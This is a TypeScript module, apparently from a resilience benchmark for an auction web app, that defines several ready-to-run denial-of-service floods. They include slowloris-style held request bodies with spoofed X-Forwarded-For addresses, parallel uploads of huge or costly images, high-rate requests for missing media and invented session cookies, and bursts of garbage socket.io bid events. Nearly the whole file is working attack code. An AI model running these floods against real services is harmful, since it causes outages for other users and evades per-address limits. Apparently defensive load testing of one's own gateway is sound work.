import { randomBytes } from 'node:crypto'
import { request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import sharp from 'sharp'
import WebSocket from 'ws'

export interface FloodTarget {
  /** Of the gateway. */
  url: string
  /** Session of an account whose owner floods. */
  cookie: string
}

export type FloodName = keyof typeof floods

/** Runs until the signal ends; errors of its own requests are what it is there for. */
type Flood = (target: FloodTarget, signal: AbortSignal) => Promise<void>

const MEGABYTE = 1024 * 1024
const BOUNDARY = 'flood'

/** What was found to harm others, each at the size at which it was found. */
export const floods = {
  'held JSON bodies': (target, signal) =>
    holdBodies(target, signal, { count: 2_048, addresses: 5, path: '/api/v1/user/login', sentBytes: 60_000 }),
  'held uploads': (target, signal) =>
    holdBodies(target, signal, {
      count: 26,
      addresses: 1,
      path: '/api/v1/user/add-avatar',
      sentBytes: 4.9 * MEGABYTE,
    }),
  '40-megapixel pictures': async (target, signal) => {
    const picture = await sharp({ create: { width: 8_000, height: 4_990, channels: 3, background: 'green' } })
      .jpeg()
      .toBuffer()
    await inParallel(24, signal, () => upload(target, signal, picture))
  },
  'AVIF pictures': async (target, signal) => {
    const raw = { width: 2_000, height: 1_500, channels: 3 as const }
    const picture = await sharp(randomBytes(raw.width * raw.height * 3), { raw })
      .avif({ effort: 0, quality: 60 })
      .toBuffer()
    await inParallel(30, signal, () => upload(target, signal, picture))
  },
  'media that does not exist': (target, signal) =>
    atRate(480, signal, () => get(target, signal, `/media/lots/${randomBytes(16).toString('hex')}-400.webp`)),
  'garbage socket events': async (target, signal) => {
    const sockets = Array.from({ length: 10 }, () => openSocket(target))
    await atRate(4_000, signal, async () => {
      const socket = sockets[Math.floor(Math.random() * sockets.length)]
      if (socket?.readyState === WebSocket.OPEN)
        socket.send('42["placeBid",{"auctionId":"x","bidAmount":"y"}]')
    })
    for (const socket of sockets) socket.terminate()
  },
  'invented cookies': (target, signal) =>
    atRate(400, signal, () =>
      get(
        { ...target, cookie: `boli_session=${randomBytes(32).toString('base64url')}` },
        signal,
        '/api/v1/user/isLoggedIn',
      ),
    ),
} as const satisfies Record<string, Flood>

async function inParallel(count: number, signal: AbortSignal, work: () => Promise<void>): Promise<void> {
  const repeat = async () => {
    while (!signal.aborted) {
      await work()
      await sleep(10)
    }
  }
  await Promise.all(Array.from({ length: count }, repeat))
}

async function atRate(perSecond: number, signal: AbortSignal, work: () => Promise<void>): Promise<void> {
  const beganMs = performance.now()
  for (let sent = 0; !signal.aborted; await sleep(2)) {
    for (; sent < ((performance.now() - beganMs) / 1000) * perSecond; sent += 1) void work()
  }
}

/** Addresses that no one has; the gateway of the benchmark trusts one proxy before it. */
const addressOf = (index: number) => `203.0.113.${(index % 250) + 1}`

/** Sends most of a body, then stalls; reconnects when the gateway hangs up. */
async function holdBodies(
  { url, cookie }: FloodTarget,
  signal: AbortSignal,
  o: { count: number; addresses: number; path: string; sentBytes: number },
): Promise<void> {
  const { hostname, port, host } = new URL(url)
  const isForm = o.path.endsWith('avatar')
  const type = isForm ? `multipart/form-data; boundary=${BOUNDARY}` : 'application/json'
  const open = new Set<Socket>()
  function hold(index: number): void {
    if (signal.aborted) return
    const socket = connect({ host: hostname, port: Number(port) })
    open.add(socket)
    socket.on('error', () => {})
    socket.on('close', () => {
      open.delete(socket)
      setTimeout(() => hold(index), 200).unref()
    })
    socket.resume()
    socket.write(
      `POST ${o.path} HTTP/1.1\r\nhost: ${host}\r\norigin: ${url}\r\ncontent-type: ${type}\r\n` +
        `content-length: ${Math.ceil(o.sentBytes) + 1_000}\r\nx-forwarded-for: ${addressOf(index % o.addresses)}\r\n` +
        `${isForm ? `cookie: ${cookie}\r\n` : ''}\r\n`,
    )
    socket.write(Buffer.alloc(o.sentBytes, ' '))
  }
  for (let index = 0; index < o.count; index += 1) hold(index)
  await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }))
  for (const socket of open) socket.destroy()
}

function upload(target: FloodTarget, signal: AbortSignal, picture: Buffer): Promise<void> {
  const head = `--${BOUNDARY}\r\ncontent-disposition: form-data; name="avatar"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), picture, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)])
  return send(target, signal, 'POST', '/api/v1/user/add-avatar', {
    type: `multipart/form-data; boundary=${BOUNDARY}`,
    body,
  })
}

function get(target: FloodTarget, signal: AbortSignal, path: string): Promise<void> {
  return send(target, signal, 'GET', path)
}

/** Resolves with the end of the answer, or of the connection. */
function send(
  { url, cookie }: FloodTarget,
  signal: AbortSignal,
  method: string,
  path: string,
  content?: { type: string; body: Buffer },
): Promise<void> {
  return new Promise((resolve) => {
    const outgoing = request(url, { method, path, signal }, (answer) => {
      answer.resume()
      answer.on('close', resolve)
    })
    outgoing.on('error', () => resolve())
    outgoing.setHeader('origin', url)
    outgoing.setHeader('cookie', cookie)
    outgoing.setHeader('x-forwarded-for', addressOf(0))
    if (content) outgoing.setHeader('content-type', content.type)
    outgoing.end(content?.body)
  })
}

function openSocket({ url, cookie }: FloodTarget): WebSocket {
  const address = `${url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`
  const socket = new WebSocket(address, { headers: { cookie, origin: url, 'x-forwarded-for': addressOf(0) } })
  socket.on('error', () => {})
  socket.on('message', (data) => {
    const text = String(data)
    if (text.startsWith('0')) socket.send('40')
    if (text === '2') socket.send('3')
  })
  return socket
}
